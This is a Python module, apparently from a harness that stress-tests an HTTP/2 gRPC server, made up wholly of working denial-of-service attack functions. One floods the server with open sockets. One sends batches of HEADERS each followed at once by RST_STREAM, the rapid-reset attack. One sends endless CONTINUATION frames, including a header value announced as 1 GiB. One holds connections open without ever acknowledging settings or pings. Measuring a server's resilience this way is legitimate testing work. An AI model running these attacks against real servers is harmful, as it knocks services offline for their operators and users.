"""Attacks on connections and on HTTP/2 itself: descriptors (fd-flood),
stream resets (rapid-reset), endless header blocks (continuation) and
connections that never answer (idle-conns).
"""

import asyncio
import collections
import socket

import h2wire as w

from .config import GEMM_PATH, GiB, STREAM_PATH
from .context import close_all, connect_all, summarize_conns
from .h2conn import ConnClosed


async def attack_fd_flood(ctx):
    p = ctx.params
    socks, errors = [], collections.Counter()
    loop = ctx.loop
    gate = asyncio.Semaphore(32)

    async def one():
        async with gate:
            if ctx.stop.is_set():
                return
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                await asyncio.wait_for(loop.sock_connect(
                    s, (ctx.host, ctx.port)), 2.0)
                socks.append(s)
            except (OSError, asyncio.TimeoutError) as e:
                errors[type(e).__name__] += 1
                s.close()
    await asyncio.gather(*(one() for _ in range(p["count"])))
    await ctx.hold()
    # A connection the server closed reads as EOF (or an error) now.
    closed = 0
    for s in socks:
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    return ctx.result(connected=len(socks), connect_errors=dict(errors),
                      closed_by_server=closed)


async def attack_rapid_reset(ctx):
    p = ctx.params
    paths = ([STREAM_PATH, GEMM_PATH] if p["paths"] == "gemm" else
             p["paths"].split("+"))
    blocks = [w.encode_headers(w.grpc_request_headers(
        path, "%s:%d" % (ctx.host, ctx.port))) for path in paths]
    resets = [0]
    reconnects = [0]
    capped_at = [None]
    all_conns = []

    def capped():
        if p["max_streams"] and resets[0] >= p["max_streams"]:
            capped_at[0] = capped_at[0] or ctx.loop.time()
            return True
        return False

    async def run_one():
        while not ctx.stop.is_set() and not capped():
            conn = ctx.conn()
            try:
                await conn.connect()
            except (OSError, asyncio.TimeoutError):
                reconnects[0] += 1
                await asyncio.sleep(0.1)
                continue
            all_conns.append(conn)
            ctx.mark_established()
            try:
                while not ctx.stop.is_set() and not conn.closed and \
                        not capped():
                    out = []
                    for i in range(p["batch"]):
                        sid = conn.next_sid
                        conn.next_sid += 2
                        out.append(w.frame(
                            w.HEADERS, w.END_HEADERS, sid,
                            blocks[i % len(blocks)]))
                        out.append(w.rst_stream(sid, w.CANCEL))
                    conn.write(b"".join(out))
                    resets[0] += p["batch"]
                    await conn.drain_or_stop(ctx.stop, 64 * 1024)
                    await asyncio.sleep(0)
                    if conn.next_sid > 2**31 - 2 * p["batch"]:
                        break
            except ConnClosed:
                pass
            if capped() and not conn.closed:
                await ctx.hold()  # connections stay open until released
            conn.abort()  # what is still buffered here is never sent
            if not ctx.stop.is_set() and not capped():
                reconnects[0] += 1
    await asyncio.gather(*(run_one() for _ in range(p["connections"])))
    sending = (capped_at[0] or ctx.loop.time()) - ctx.started
    return ctx.result(streams_reset=resets[0],
                      sending_s=round(sending, 3),
                      resets_per_s=round(resets[0] / max(sending, 1e-9)),
                      reconnects=reconnects[0],
                      **summarize_conns(all_conns))


async def attack_continuation(ctx):
    p = ctx.params
    frames_sent = [0]
    per_conn = []
    all_conns = []
    mode = p["mode"]
    head = w.encode_headers(w.grpc_request_headers(
        GEMM_PATH, "%s:%d" % (ctx.host, ctx.port)))
    if mode == "value":
        # A literal field whose value is announced as 1 GiB; the frames that
        # follow carry its bytes.
        head += b"\x00" + w.encode_str("x-flood") + w.encode_int(GiB, 7)
    while not ctx.stop.is_set() and frames_sent[0] < p["frames"]:
        conn = ctx.conn()
        try:
            await conn.connect()
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.1)
            continue
        all_conns.append(conn)
        ctx.mark_established()
        size = conn.peer_max_frame
        if mode == "value":
            payload = b"a" * size
        elif mode == "fields":
            field = w.encode_literal("x-f", "v" * 20)
            payload = field * (size // len(field))
        else:
            payload = b""
        sid = conn.next_sid
        conn.next_sid += 2
        n = 0
        try:
            conn.write(w.frame(w.HEADERS, 0, sid, head))
            cont = w.frame(w.CONTINUATION, 0, sid, payload)
            while (not ctx.stop.is_set() and not conn.closed and
                   frames_sent[0] < p["frames"]):
                batch = min(64, p["frames"] - frames_sent[0])
                conn.write(cont * batch)
                n += batch
                frames_sent[0] += batch
                await conn.drain_or_stop(ctx.stop, 1 << 20)
                await asyncio.sleep(0)
        except ConnClosed:
            pass
        per_conn.append({"frames": n, "payload_bytes": n * len(payload),
                         "closed_by_server": conn.closed_by_peer})
        if not conn.closed:
            if frames_sent[0] >= p["frames"]:
                break  # keep the last connection open until released
            conn.close()
    await ctx.hold()
    for c in all_conns:
        c.abort()
    return ctx.result(frames_sent=frames_sent[0],
                      per_connection=per_conn[:20],
                      **summarize_conns(all_conns))


async def attack_idle_conns(ctx):
    p = ctx.params
    conns, errors = await connect_all(
        ctx, p["count"], concurrency=100, ack_settings=False,
        ack_pings=False, settings_pairs=[])
    await ctx.hold()
    close_all(conns)
    out = summarize_conns(conns, sum(errors.values()))
    out["connect_error_kinds"] = dict(errors)
    return ctx.result(**out)
